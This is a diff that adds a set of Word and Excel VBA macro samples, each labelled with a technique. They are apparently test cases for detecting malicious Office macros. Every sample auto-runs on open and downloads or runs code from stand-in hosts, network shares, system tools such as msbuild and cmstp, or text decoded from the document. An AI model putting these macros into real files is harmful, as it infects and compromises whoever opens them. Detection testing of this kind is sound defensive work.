@@ -328,3 +328,173 @@ End Sub
 Function rr(x)
 rr = Replace(x, "@", "")
 End Function
+'#### word: library declared where it is fetched to
+Private Declare PtrSafe Function begin Lib "C:\ProgramData\44.dll" Alias "DllRegisterServer" () As Long
+Sub AutoOpen()
+URLDownloadToFile 0, "http://s0.example.com/a.php?l=b.cab", "C:\ProgramData\44.dll", 0, 0
+begin
+End Sub
+'#### excel: library declared by its name alone, written from bytes
+Private Declare PtrSafe Sub Tick Lib "stat.ocx" ()
+Sub Workbook_Open()
+ChDir Environ("TEMP")
+Open Environ("TEMP") & "\stat.ocx" For Binary As #1
+Put #1, , b
+Close #1
+Tick
+End Sub
+'#### word: library loaded that was saved
+Private Declare PtrSafe Function LoadLibraryA Lib "kernel32" (ByVal s As String) As LongPtr
+Sub Document_Open()
+q = Environ("APPDATA") & "\wlib.bin"
+Set s = CreateObject("ADODB.Stream")
+s.Open
+s.Write f(ActiveDocument.Variables("k"))
+s.SaveToFile q, 2
+LoadLibraryA q
+End Sub
+'#### word: ftp script that gets a program
+Sub AutoOpen()
+Open Environ("TEMP") & "\f.txt" For Output As #1
+Print #1, "open s0.example.com"
+Print #1, "get up.exe"
+Close #1
+Shell "cmd /c ftp -s:%TEMP%\f.txt & up.exe", vbHide
+End Sub
+'#### excel: ftp script by echo
+Sub Auto_Open()
+c = "echo open 192.0.2.9>x&echo user a b>>x&echo binary>>x&echo recv run.scr>>x&"
+CreateObject("WScript.Shell").Run "cmd /c cd %TEMP%&" & c & "ftp.exe -n -s:x&run.scr", 0
+End Sub
+'#### word: a program from a share of a bare number
+Sub AutoOpen()
+Shell "\\192.0.2.5\pub\a.exe", vbHide
+End Sub
+'#### excel: a library from a share of a bare number
+Sub Workbook_Open()
+s = "\\192.0.2.77\d\x.dll"
+CreateObject("WScript.Shell").Run "rundll32 " & s & ",Start", 0
+End Sub
+'#### word: a script from a share over the web
+Sub AutoOpen()
+CreateObject("WScript.Shell").Run "wscript //b \\s0.example.com@8080\dav\a.js"
+End Sub
+'#### word: explorer opens a page program that was written
+Sub AutoOpen()
+Open "C:\programdata\sl.hta" For Output As #1
+Print #1, Frm.Box.Text
+Close #1
+Shell "explorer C:\programdata\sl.hta"
+End Sub
+'#### excel: explorer opens a script that was written
+Sub Workbook_Open()
+p = Environ("PUBLIC") & "\note.wsf"
+Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p)
+f.Write Sheets(2).Range("A9")
+f.Close
+CreateObject("WScript.Shell").Run "explorer.exe """ & p & """", 0
+End Sub
+'#### word: ScriptControl runs what was fetched
+Sub AutoOpen()
+Set x = CreateObject("MSXML2.XMLHTTP")
+x.Open "GET", "http://s0.example.com/a", False
+x.Send
+Set s = CreateObject("MSScriptControl.ScriptControl")
+s.Language = "VBScript"
+s.ExecuteStatement x.responseText
+End Sub
+'#### excel: ScriptControl is given fetched code by a function
+Function Page(u)
+With CreateObject("WinHttp.WinHttpRequest.5.1")
+.Open "GET", u, False
+.Send
+Page = .ResponseText
+End With
+End Function
+Sub Workbook_Open()
+t = Page("https://paste.example.com/raw/1")
+Set s = New ScriptControl
+s.Language = "JScript"
+s.AddCode t
+End Sub
+'#### word: msbuild is given a project that was written
+Sub AutoOpen()
+Open Environ("TEMP") & "\a.csproj" For Output As #1
+Print #1, Frm.Box.Text
+Close #1
+Shell "C:\Windows\Microsoft.NET\Framework\v4.0.30319\msbuild.exe " & Environ("TEMP") & "\a.csproj", 0
+End Sub
+'#### excel: cmstp is given a profile that was written
+Sub Workbook_Open()
+p = Environ("APPDATA") & "\vpn.inf"
+Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(p)
+f.WriteLine Range("B2")
+CreateObject("WScript.Shell").Run "cmstp.exe /s /ns " & p, 0
+End Sub
+'#### word: a remote style sheet transforms itself
+Sub AutoOpen()
+Set x = CreateObject("MSXML2.DOMDocument")
+x.async = False
+x.Load "http://s0.example.com/a.xsl"
+x.transformNode x
+End Sub
+'#### excel: a remote style sheet whose result nobody wants
+Sub Workbook_Open()
+Set a = CreateObject("Microsoft.XMLDOM")
+a.LoadXML "<a/>"
+Set b = CreateObject("Microsoft.XMLDOM")
+u = "https://s0.example.com/style"
+b.Load u
+Call a.transformNode(b)
+End Sub
+'#### word: the page's text decoded by a helper and run
+Sub Document_Open()
+a = ActiveDocument.Paragraphs(3).Range.Text
+CreateObject(b("5753637269")).Run b(a), 0
+End Sub
+Function b(c)
+For i = 1 To Len(c) Step 2
+b = b & Chr("&H" & Mid(c, i, 2))
+Next
+End Function
+'#### excel: a cell decoded by a helper, then run
+Function plainOf(s, k)
+Dim i, r
+i = 1
+Do While i <= Len(s)
+r = r & ChrW(AscW(Mid(s, i, 1)) - k)
+i = i + 1
+Loop
+plainOf = r
+End Function
+Sub Workbook_Open()
+c = plainOf(Sheets(1).Range("AA9"), 3)
+Shell c, 0
+End Sub
+'#### word: captions of a form put together and run
+Private Sub Document_Open()
+Dim w As New WshShell
+w.Run Frm.Label1.Caption & Frm.Label2.Caption & Frm.Box.Tag, 0
+End Sub
+'#### excel: tags of a form gathered and run
+Sub Workbook_Open()
+c = Frm.A.Tag
+c = c & Frm.B.ControlTipText
+c = c & Frm.C.Tag
+CreateObject("WScript.Shell").Exec c
+End Sub
+'#### word: a fetched text is run
+Sub AutoOpen()
+Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
+x.Open "GET", "https://paste.example.com/raw/abc", False
+x.Send
+Shell x.responseText, 0
+End Sub
+'#### excel: a fetched text behind cmd
+Sub Workbook_Open()
+Set h = CreateObject("MSXML2.ServerXMLHTTP")
+h.Open "GET", "https://s0.example.com/t", False
+h.Send
+r = Trim(Split(h.responseText, "|")(1))
+CreateObject("WScript.Shell").Run "cmd /c " & r, 0
+End Sub
